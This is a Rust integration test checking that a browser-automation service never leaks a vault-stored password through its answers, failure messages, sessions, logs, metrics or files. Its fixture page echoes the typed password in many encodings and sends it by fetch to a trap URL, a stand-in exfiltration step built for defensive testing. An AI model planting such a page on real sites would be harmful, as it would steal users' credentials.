//! One telling value, used everywhere, and then looked for everywhere, in every form.

use std::path::Path;

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Value, json};
use surehand_testkit::{Request, Response, Site};

use crate::common::fresh_cli;
use crate::guarded::Trap;
use crate::serving::{Answer, Service};
use crate::stored;

/// Long enough that no part of it is there by chance, with characters that are written differently everywhere.
const PASSWORD: &str = "Zq7&xW \"9/é+\\vT'kLm42";

/// A login form that says what it was given, in every place and form that a page has.
const ECHO: &str = r#"<!doctype html><meta charset=utf-8><title>Log in</title>
<form id=form><input id=user><input id=pw type=password><input id=plain><button id=go>Go</button></form><div id=out></div>
<script>
const bytes = text => String.fromCharCode(...new TextEncoder().encode(text));
form.onsubmit = event => {
  event.preventDefault();
  const pw = document.getElementById('pw').value;
  document.getElementById('plain').value = pw;
  const hex = [...new TextEncoder().encode(pw)].map(b => b.toString(16).padStart(2, '0')).join('');
  const all = [pw, btoa(bytes(pw)), btoa(bytes('u:' + pw)), hex, hex.toUpperCase(), encodeURIComponent(pw), JSON.stringify({ pw }), [...pw].reverse().length];
  document.title = 'Hello ' + pw;
  console.log('pw', pw); console.error(pw);
  history.replaceState(null, '', '?' + new URLSearchParams({ pw }) + '#' + encodeURIComponent(pw));
  document.getElementById('out').innerHTML = '<p id=said>Welcome in</p><p id=echo></p><button class=twin></button><button class=twin></button><screenshots></screenshots><p id=loud style="text-transform: uppercase"></p>';
  document.querySelector('screenshots').textContent = document.getElementById('loud').textContent = pw;
  document.getElementById('echo').textContent = all.join('\n');
  document.getElementById('echo').setAttribute('data-x', pw);
  document.querySelectorAll('.twin').forEach(twin => twin.textContent = pw);
  fetch('TRAP/' + encodeURIComponent(pw), { mode: 'no-cors' }).catch(() => 0);
  alert(pw);
  setTimeout(() => { throw new Error(pw); });
};
</script>"#;

fn site(trap: &Trap) -> Site {
    let page = ECHO.replace("TRAP", &trap.url(""));
    let said = |request: &Request| Response::html(format!("<p id=who>you are {}</p>", request.path));
    Site::builder().route("/", move |_| Response::html(page.clone())).route("/who/*", said).start().unwrap()
}

/// How the value might be found.
fn forms() -> Vec<(&'static str, Vec<u8>)> {
    let bytes = PASSWORD.as_bytes();
    let hex: String = bytes.iter().map(|byte| format!("{byte:02x}")).collect();
    let percent: String = bytes.iter().map(|byte| format!("%{byte:02X}")).collect();
    let inner = "vT'kLm42";
    vec![
        ("plain", bytes.to_vec()),
        ("a part", inner.as_bytes().to_vec()),
        ("a part, loud", inner.to_uppercase().into_bytes()),
        ("base64", STANDARD.encode(bytes).into_bytes()),
        ("base64 in the middle", STANDARD.encode(&bytes[3..15]).into_bytes()),
        ("base64url", URL_SAFE_NO_PAD.encode(bytes).into_bytes()),
        ("hex", hex.clone().into_bytes()),
        ("HEX", hex.to_uppercase().into_bytes()),
        ("percent", percent.into_bytes()),
        ("percent as browsers do", b"Zq7%26xW".to_vec()),
        ("form", b"Zq7%26xW+%229%2F".to_vec()),
        ("utf-16", PASSWORD.encode_utf16().flat_map(u16::to_le_bytes).collect()),
    ]
}

#[track_caller]
fn has_none(what: &str, bytes: &[u8]) {
    for (form, needle) in forms() {
        let found = bytes.windows(needle.len()).position(|window| window == needle);
        let around = found
            .map(|at| String::from_utf8_lossy(&bytes[at.saturating_sub(80)..at + needle.len()]).into_owned());
        assert!(found.is_none(), "{form} in {what}: {around:?}");
    }
}

/// Every file of the home, and what it is called. Profiles of browsers are theirs: what is typed into a page is there.
/// The service runs: what it takes away in this moment is not there to be read.
fn search(folder: &Path) {
    let Some(entries) = unless_gone(fs_err::read_dir(folder)) else { return };
    for entry in entries.flatten() {
        let path = entry.path();
        has_none("a file's name", path.to_string_lossy().as_bytes());
        if path.is_dir() && !path.ends_with("profiles") {
            search(&path);
        } else if path.is_file()
            && let Some(bytes) = unless_gone(fs_err::read(&path))
        {
            has_none(&path.display().to_string(), &bytes);
        }
    }
}

fn unless_gone<T>(read: std::io::Result<T>) -> Option<T> {
    match read {
        Err(error) if error.kind() == std::io::ErrorKind::NotFound => None,
        read => Some(read.unwrap()),
    }
}

fn without_pictures(answer: &Answer) -> Vec<u8> {
    let mut body = answer.json();
    if let Some(members) = body.as_object_mut() {
        members.remove("screenshots");
    }
    format!("{:?}{body}", answer.headers).into_bytes()
}

#[test]
fn nothing_of_a_credential_comes_out_anywhere() {
    let trap = Trap::set();
    let site = site(&trap);
    let cli = fresh_cli().env("SUREHAND_LOG", "trace");
    let host = site.url("").replace("http://", "");
    let service = Service::start_in(&cli, &["--egress-allow", &host, "--action-timeout", "3000"]);
    stored(
        &cli,
        &["shop", "--type", "login", "--field", "username=ada", "--secret", "password"],
        &format!("{PASSWORD}\n"),
    );
    assert!(cli.run(&["vault", "grant", "shop", "ada"]).unwrap().ok());
    let token = service.token("ada", "admin");
    let enter = json!([
        { "action": "type", "selector": "#user", "value": "${vault:shop#username}" },
        { "action": "type", "selector": "#pw", "value": "${vault:shop#password}" },
        { "action": "click", "selector": "#go" },
    ]);
    let with = |more: &[Value]| {
        let mut all = enter.as_array().unwrap().clone();
        all.extend(more.iter().cloned());
        Value::Array(all)
    };
    let extract =
        |selector: &str, format: &str| json!({ "action": "extract", "selector": selector, "format": format });
    let looked = [
        extract("#echo", "text"),
        extract("#out", "html"),
        extract("body", "html"),
        extract("#plain", "text"),
        extract("screenshots", "text"),
        extract("#loud", "text"),
        json!({ "action": "assert_text", "text": "Welcome in" }),
        json!({ "action": "screenshot" }),
    ];
    let done = service.interact_with(&token, &site.url("/"), &with(&looked));
    let output = done.ok();
    assert_eq!(output["assertions_passed"], true, "{output}");
    assert!(output["extractions"]["#echo"].as_str().unwrap().contains("${vault:shop#password}"), "{output}");
    has_none("an answer", &without_pictures(&done));
    // Failures quote the page: an element that is not there, several that are, an address that is none.
    for failing in [
        json!({ "action": "click", "selector": ".twin" }),
        json!({ "action": "click", "selector": "#missing" }),
        json!({ "action": "navigate", "url": "http://127.0.0.1:1/" }),
        json!({ "action": "type", "selector": "#missing", "value": "${vault:shop#password}" }),
    ] {
        let answer = service.interact_with(&token, &site.url("/"), &with(&[failing]));
        has_none("a failure", &without_pictures(&answer));
    }
    // What one call entered another does not read, in a session that is kept.
    let made = service.ask_with(&token, "POST", "/api/v1/sessions", Some(&json!({}))).ok();
    let id = made["id"].as_str().or(made["session_id"].as_str()).expect("an id").to_owned();
    let in_it = |url: &str, actions: &Value| {
        let input = json!({ "url": url, "actions": actions, "session_id": id });
        service.ask_with(&token, "POST", "/api/v1/packs/browser.interact", Some(&input))
    };
    in_it(&site.url("/"), &enter).ok();
    let described = service.ask_with(&token, "GET", &format!("/api/v1/sessions/{id}"), None);
    has_none("a session", &described.body);
    assert!(described.text().contains("pw="), "{described:?}");
    // Who may not see it may not guess it either.
    let guess = json!({ "action": "assert_text", "text": &PASSWORD[..6] });
    let guessed = service.interact_with(&token, &site.url("/"), &with(&[guess])).ok();
    assert_eq!(guessed["assertions_passed"], false);
    let whole = json!({ "action": "assert_text", "text": PASSWORD });
    let known = service.interact_with(&token, &site.url("/"), &with(&[whole])).ok();
    assert_eq!(known["assertions_passed"], true, "who knows it finds it");
    let reflected = format!("{}?x", site.url(&format!("/who/{}", "x")));
    for url in [site.url("/"), reflected] {
        let answer = in_it(&url, &json!([extract("body", "html")]));
        has_none("a later call", &without_pictures(&answer));
    }
    let remembered = json!([{ "action": "type", "selector": "#pw", "value": "other word" }, { "action": "click", "selector": "#go" }]);
    has_none("a later call", &without_pictures(&in_it(&site.url("/"), &remembered)));

    let login = json!({ "login_url": site.url("/"), "credential": "shop", "username_selector": "#user",
        "password_selector": "#pw", "submit_selector": "#go", "success_text": "Welcome in", "format": "html" });
    let fetched = service.ask_with(&token, "POST", "/api/v1/packs/web.login_and_fetch", Some(&login));
    assert_eq!(fetched.ok()["logged_in"], true);
    has_none("a login", &without_pictures(&fetched));

    for path in ["/api/v1/audit?limit=1000", "/metrics", "/api/v1/vault/credentials/shop/usage"] {
        has_none(path, &service.ask_with(&token, "GET", path, None).body);
    }
    has_none("the log", service.said().as_bytes());
    has_none("a token's neighbourhood", &service.ask_with("not-a-token", "GET", "/api/v1/audit", None).body);
    trap.is_untouched("a page that tells what it was told");
    search(cli.home().path());
    assert!(!service.said().contains(&token), "a token is in the log");
}
